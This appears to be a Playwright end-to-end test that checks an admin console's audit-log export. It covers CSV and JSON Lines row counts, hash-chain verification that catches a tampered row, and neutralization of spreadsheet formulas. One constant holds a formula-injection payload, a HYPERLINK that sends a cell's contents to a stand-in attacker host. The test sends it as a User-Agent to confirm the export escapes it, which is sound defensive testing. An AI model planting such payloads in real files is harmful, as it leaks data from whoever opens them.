/**
 * Audit export end to end: an admin filters the audit page, exports CSV and JSON Lines, and
 * downloads both as a user does. The files are then opened and checked: the row count is the
 * filtered total the API gives, a cell that starts with `=` (a hostile User-Agent) is
 * neutralized for spreadsheets (docs/security.md §23), and the JSON Lines file verifies offline
 * with the operators' command — which must also catch a single edited row.
 */
import { execFileSync } from "node:child_process";
import fs from "node:fs";
import path from "node:path";
import { expect, test, type Page } from "@playwright/test";
import { auditRows } from "../fixtures/console-api";
import { parseCsv } from "../fixtures/csv";
import { signInAsAdmin } from "../fixtures/sign-in";
import { AuditPage } from "../pages/audit-page";

const ROOT = path.resolve(__dirname, "../..");
const HOSTILE_AGENT = `=HYPERLINK("http://attacker.example/?leak="&A1,"Open report")`;
const FILTER = { actor: "admin", action: "profile.preferences.update" };

interface VerifyReport {
  ok: boolean;
  count: number;
  firstBroken: { line: number; id: number | null; reason: string } | null;
  manifest: { present: boolean; matches: boolean };
}

/** `npx tsx --conditions=react-server scripts/audit.ts verify --file <file>`, as an operator runs it offline. */
function verifyOffline(file: string): { code: number; report: VerifyReport } {
  try {
    const out = execFileSync("npx", ["tsx", "--conditions=react-server", "scripts/audit.ts", "verify", "--file", file], { cwd: ROOT, encoding: "utf8", stdio: ["ignore", "pipe", "pipe"] });
    return { code: 0, report: JSON.parse(out) as VerifyReport };
  } catch (e) {
    const err = e as { status: number; stdout: string; stderr: string };
    if (!err.stdout) throw new Error(`audit verify failed to run: ${err.stderr}`);
    return { code: err.status, report: JSON.parse(err.stdout) as VerifyReport };
  }
}

/** Runs one export from the page and saves the offered file. */
async function exportFrom(page: Page, format: "csv" | "jsonl", dir: string): Promise<string> {
  await page.getByTestId(`export-${format}`).click();
  const link = page.getByTestId(`download-${format}`);
  await expect(link).toBeVisible();
  const [download] = await Promise.all([page.waitForEvent("download"), link.click()]);
  expect(download.suggestedFilename()).toMatch(new RegExp(`^switchyard-audit-.*\\.${format}$`));
  const file = path.join(dir, download.suggestedFilename());
  await download.saveAs(file);
  return file;
}

test("admin exports the filtered audit log as CSV and JSON Lines; the files hold the filtered total, neutralize formulas and verify offline", async ({ page }, testInfo) => {
  test.setTimeout(120_000);
  await signInAsAdmin(page);
  const origin = new URL(page.url()).origin;
  // Rows to export: preference changes, one of them sent by a client whose User-Agent is a formula.
  for (const [locale, agent] of [["en", HOSTILE_AGENT], ["en", "e2e-export/1.0"], ["en", "e2e-export/1.0"]] as const) {
    const res = await page.request.patch("/api/v1/me/preferences", { headers: { origin, "user-agent": agent }, data: { locale } });
    expect(res.status(), await res.text()).toBe(200);
  }
  const expected = await auditRows(page, FILTER);
  expect(expected.some((r) => r.userAgent === HOSTILE_AGENT), "the hostile User-Agent is on record").toBe(true);

  const audit = new AuditPage(page);
  await audit.goto();
  await page.getByLabel(/^Actor$/).fill(FILTER.actor);
  await audit.filterByAction(FILTER.action);
  await expect(audit.rows().first()).toContainText(FILTER.action);
  await expect(audit.rows().filter({ hasNotText: FILTER.action })).toHaveCount(0);
  const dir = testInfo.outputPath("exports");
  fs.mkdirSync(dir, { recursive: true });

  // CSV: RFC 4180, one row per filtered event, every formula-looking cell prefixed.
  const csvFile = await exportFrom(page, "csv", dir);
  await expect(page.getByText(`Exported ${expected.length} rows`)).toBeVisible();
  const [header, ...rows] = parseCsv(fs.readFileSync(csvFile, "utf8"));
  expect(header).toEqual(expect.arrayContaining(["id", "requestId", "phase", "outcome", "action", "actorName", "userAgent", "prevHash", "hash"]));
  expect(rows, `CSV rows vs the ${expected.length} events the API lists for the filter`).toHaveLength(expected.length);
  const col = (name: string) => header!.indexOf(name);
  expect(rows.map((r) => Number(r[col("id")])).sort((a, b) => a - b)).toEqual(expected.map((r) => r.id).sort((a, b) => a - b));
  expect(new Set(rows.map((r) => r[col("action")]))).toEqual(new Set([FILTER.action]));
  const hostile = rows.filter((r) => r[col("userAgent")]!.includes("HYPERLINK"));
  expect(hostile.length).toBeGreaterThan(0);
  for (const r of hostile) expect(r[col("userAgent")]).toBe(`'${HOSTILE_AGENT}`);
  const live = rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell));
  expect(live, "cells a spreadsheet would evaluate").toEqual([]);

  // JSON Lines: the same events with every chain field, a closing manifest, verified offline.
  const jsonlFile = await exportFrom(page, "jsonl", dir);
  await expect(page.getByText(`Exported ${expected.length} rows`)).toHaveCount(2);
  await page.screenshot({ path: "test-results/screens/audit-exports.png", fullPage: true });
  const lines = fs.readFileSync(jsonlFile, "utf8").trimEnd().split("\n").map((l) => JSON.parse(l) as Record<string, unknown>);
  const manifest = lines.pop()!;
  expect(manifest).toMatchObject({ manifest: true, format: "jsonl", count: expected.length, filters: FILTER, exportedBy: "admin" });
  expect(lines.map((l) => l.id)).toEqual(expected.map((r) => r.id).reverse());
  expect(lines.find((l) => l.userAgent === HOSTILE_AGENT), "JSON keeps the value as it was sent").toBeDefined();
  const verified = verifyOffline(jsonlFile);
  expect(verified).toMatchObject({ code: 0, report: { ok: true, count: expected.length, firstBroken: null, manifest: { present: true, matches: true } } });

  // The same command refuses a copy in which one event was edited.
  const tampered = path.join(dir, "tampered.jsonl");
  const edited = lines.map((l) => (l.userAgent === HOSTILE_AGENT ? { ...l, userAgent: "innocent/1.0" } : l));
  fs.writeFileSync(tampered, [...edited, manifest].map((l) => JSON.stringify(l)).join("\n") + "\n");
  const refused = verifyOffline(tampered);
  expect(refused.code).toBe(1);
  expect(refused.report).toMatchObject({ ok: false, firstBroken: { reason: "hash_mismatch", id: lines.find((l) => l.userAgent === HOSTILE_AGENT)!.id } });

  // Both exports are themselves on record, with the count they wrote.
  const exports = (await auditRows(page, { action: "audit.export", outcome: "succeeded" })).slice(0, 2);
  expect(exports.map((r) => [r.targetName, (r.detail as { count: number }).count])).toEqual([
    ["jsonl", expected.length],
    ["csv", expected.length],
  ]);
});
